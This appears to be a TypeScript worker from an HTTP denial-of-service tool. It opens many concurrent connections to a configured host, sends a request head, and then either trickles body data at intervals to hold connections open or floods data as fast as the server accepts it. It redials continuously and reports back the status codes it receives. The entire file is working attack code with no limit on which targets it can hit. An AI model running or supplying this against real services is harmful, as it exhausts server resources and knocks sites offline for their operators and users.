import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { BodyAttack } from './body-attack.ts';

/** Next to nothing, but this process has other connections to attend to. */
const REDIAL_MS = 1;

const attack = JSON.parse(process.argv[2] ?? '') as BodyAttack;
const counts: Record<string, number> = {};
process.on('message', () => process.send?.(counts));
for (let begun = 0; begun < attack.connections; begun++) void sendInTurns();

async function sendInTurns(): Promise<never> {
  for (;;) {
    const status = await send();
    counts[status] = (counts[status] ?? 0) + 1;
    await delay(REDIAL_MS);
  }
}

/** @returns the status that came back, or `none`, when the connection has ended */
function send(): Promise<string> {
  return new Promise((resolve) => {
    const { host, port, from: localAddress, everyMs } = attack;
    const socket = connect({ host, port, localAddress });
    let reply = '';
    let timer: NodeJS.Timeout | undefined;
    socket.on('connect', () => {
      socket.write(attack.head);
      if (everyMs > 0) timer = setInterval(() => socket.write(attack.piece), everyMs);
      else pour(socket);
    });
    socket.on('data', (bytes: Buffer) => {
      reply = (reply + bytes.toString('latin1')).slice(0, 100);
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      resolve(/^HTTP\/1\.1 (\d+)/.exec(reply)?.[1] ?? 'none');
    });
  });
}

/** As fast as the other end takes it. */
function pour(socket: Socket): void {
  while (!socket.destroyed && socket.writable && socket.write(attack.piece));
  socket.once('drain', () => pour(socket));
}
